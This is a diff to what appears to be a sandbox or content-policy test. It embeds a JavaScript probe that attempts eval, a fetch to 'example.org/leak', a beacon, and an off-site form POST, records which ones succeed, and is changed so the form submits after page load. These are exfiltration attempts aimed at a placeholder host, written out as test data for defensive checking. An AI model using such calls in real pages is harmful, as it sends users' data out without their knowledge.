@@ -17,9 +17,12 @@ try { new Function('tried.eval = true')(); } catch (error) { tried.eval = error.
 await fetch('https://example.org/leak').then(() => { tried.fetch = true; }, (error) => { tried.fetch = error.name; });
 await fetch('rpc', { method: 'POST', body: '{"name":"app.info","input":{}}' }).then((answer) => { tried.rpc = answer.status; });
 tried.beacon = navigator.sendBeacon('https://example.org/beacon', 'x');
-const form = document.createElement('form');
-form.action = 'https://example.org/form'; form.method = 'post'; document.body.append(form); form.submit();
-globalThis.tried = tried;`,
+const leave = () => {
+  const form = document.createElement('form');
+  form.action = 'https://example.org/form'; form.method = 'post'; document.body.append(form); form.submit();
+  globalThis.tried = tried;
+};
+if (document.readyState === 'complete') leave(); else addEventListener('load', leave);`,
 };
 
 let data: string;
